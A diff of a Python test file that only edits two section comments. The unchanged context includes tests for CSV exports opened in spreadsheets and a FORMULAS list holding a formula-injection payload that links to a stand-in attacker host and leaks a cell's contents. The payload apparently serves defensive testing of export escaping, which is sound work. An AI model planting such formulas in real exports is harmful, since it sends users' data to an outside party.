@@ -376,7 +376,7 @@ def test_a_bad_stale_age_is_a_usage_error_with_the_syntax(tmp_path: Path) -> Non
     )
 
 
-# --- exports that a spreadsheet opens (issue 9 item 10) -------------------------------------
+# --- exports that a spreadsheet opens -------------------------------------
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -447,7 +447,7 @@ def test_export_csv_ends_every_line_with_crlf(store_url: str, rows, tmp_path: Pa
     assert piped.returncode == 0 and piped.stdout == raw
 
 
-# --- a video under several names (issue 9 item 14) ------------------------------------------
+# --- a video under several names ------------------------------------------
 
 
 @pytest.fixture
